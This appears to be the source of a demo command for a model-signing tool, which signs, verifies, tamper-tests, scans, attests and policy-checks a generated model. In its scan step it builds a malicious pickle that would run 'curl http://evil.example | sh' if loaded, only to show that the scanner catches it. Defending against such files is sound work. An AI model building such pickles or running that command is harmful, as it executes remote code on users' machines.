"""`modelseal demo`: the whole signing story on a small generated model, offline, in a few seconds."""

from __future__ import annotations

import json
import os
import shutil
import tempfile
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from rich.markup import escape

from modelseal.cli.render import out
from modelseal.errors import InputError, VerificationError
from modelseal.signature import sign, verify
from modelseal.signing.key import KeySigner, KeyVerifier


def build_example_model(directory: Path) -> Path:
    """A Hugging Face-shaped model directory: config, tokenizer, two weight shards, a nested folder."""
    model = directory / "tiny-model"
    (model / "tokenizer").mkdir(parents=True)
    (model / "config.json").write_text(json.dumps({"architectures": ["TinyModel"], "hidden_size": 64}, indent=2))
    (model / "tokenizer" / "vocab.txt").write_text("\n".join(f"token{i}" for i in range(1000)))
    (model / "README.md").write_text("# tiny-model\nA generated example for `modelseal demo`.\n")
    for shard in (1, 2):
        (model / f"model-0000{shard}-of-00002.bin").write_bytes(os.urandom(512 * 1024))
    return model


def _write_key_pair(directory: Path) -> tuple[Path, Path]:
    key = ec.generate_private_key(ec.SECP256R1())
    private, public = directory / "signing-key.pem", directory / "signing-key.pub.pem"
    private.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    public.write_bytes(
        key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    return private, public


def _step(number: int, text: str) -> None:
    out.print(f"\n[bold cyan]{number}.[/] {text}")


def _play(workdir: Path) -> None:
    _step(1, "Build an example model and a fresh EC P-256 key pair")
    model = build_example_model(workdir)
    private, public = _write_key_pair(workdir)
    for path in sorted(p for p in model.rglob("*") if p.is_file()):
        out.print(f"   {escape(str(path.relative_to(workdir)))}  ({path.stat().st_size:,} bytes)")

    _step(2, f"Sign it:  modelseal sign key {model.name} --private-key {private.name}")
    signed = sign(model, KeySigner.from_file(private))
    out.print(
        f"   wrote {escape(str(Path(signed.signature).relative_to(workdir)))}, "
        f"root digest sha256:{signed.manifest.root_digest()}"
    )

    _step(3, f"Verify it:  modelseal verify key {model.name} --public-key {public.name}")
    result = verify(model, KeyVerifier.from_file(public))
    out.print(f"   [green]verified[/] {result.files_verified} files, signed by {escape(result.signer.summary)}")

    _step(4, "Tamper with a copy (flip one byte of a weight shard) and verify again")
    tampered = workdir / "tiny-model-tampered"
    shutil.copytree(model, tampered)
    weights = tampered / "model-00001-of-00002.bin"
    data = bytearray(weights.read_bytes())
    data[1000] ^= 0x01
    weights.write_bytes(bytes(data))
    try:
        verify(tampered, KeyVerifier.from_file(public))
    except VerificationError as exc:
        out.print(f"   [green]rejected, as it must be:[/] {escape(exc.message)}")
        for line in exc.details:
            out.print(f"     {escape(line)}")
    else:
        raise InputError("the tampered model verified: this is a bug, please report it")
    _scan_step(workdir, model)
    _check_step(workdir, model, private, public)
    out.print(
        "\n[bold green]Demo complete:[/] sign → verify → tamper → rejected → scan → attest → check. "
        "Try it on your own model with the commands above."
    )


def _scan_step(workdir: Path, model: Path) -> None:
    """Scan the clean model, then a pickle that would run a command if anyone loaded it (nobody does)."""
    from modelseal.scanning.findings import Severity
    from modelseal.scanning.scanner import scan_paths

    _step(5, f"Scan for serialisation attacks:  modelseal scan {model.name}")
    flagged = [r for r in scan_paths([model]) if r.findings]
    out.print(
        f"   [green]no findings[/] in {model.name}" if not flagged else f"   [red]unexpected findings[/]: {flagged}"
    )
    trap = workdir / "downloaded-model.bin"
    command = b"curl http://evil.example | sh"
    trap.write_bytes(b"\x80\x04cposix\nsystem\n(\x8c" + bytes([len(command)]) + command + b"tR.")
    finding = max(scan_paths([trap])[0].findings, key=lambda f: f.severity)
    if finding.severity < Severity.HIGH:
        raise InputError("the malicious demo pickle was not flagged: this is a bug, please report it")
    out.print(f"   {trap.name}: [red bold]{finding.severity.name}[/] {escape(finding.message)}")
    out.print(f"     would run: [bold]{escape(finding.payload or '')}[/] (it was read, never loaded)")


def _check_step(workdir: Path, model: Path, private: Path, public: Path) -> None:
    """Sign the scan result, then make the one decision a consumer makes before loading."""
    from modelseal.attest.attest import attest_scan
    from modelseal.attest.check import Outcome, check
    from modelseal.reporting import OutputFormat, View, render_check

    _step(6, f"Attest the scan, then gate the model:  modelseal attest scan {model.name} --private-key {private.name}")
    out.print(f"   then:  modelseal check {model.name} --policy trust.toml")
    attest_scan(model, KeySigner.from_file(private))
    policy = workdir / "trust.toml"
    policy.write_text(f'version = 1\n\n[[signers]]\nname = "demo key"\nmethod = "key"\npublic-key = "{public.name}"\n')
    report = check(model, policy)
    out.print(render_check(OutputFormat.TEXT, report, View(to_terminal=True)), end="", markup=False, highlight=False)
    if report.verdict is not Outcome.PASSED:
        raise InputError("the demo model did not pass its check: this is a bug, please report it")


def run_demo(directory: Path | None = None) -> None:
    """Run the demo in `directory` (kept) or in a temporary directory (removed)."""
    if directory is not None:
        directory.mkdir(parents=True, exist_ok=True)
        if any(directory.iterdir()):
            raise InputError(f"demo directory {directory} is not empty")
        _play(directory)
        return
    with tempfile.TemporaryDirectory(prefix="modelseal-demo-") as temporary:
        _play(Path(temporary))
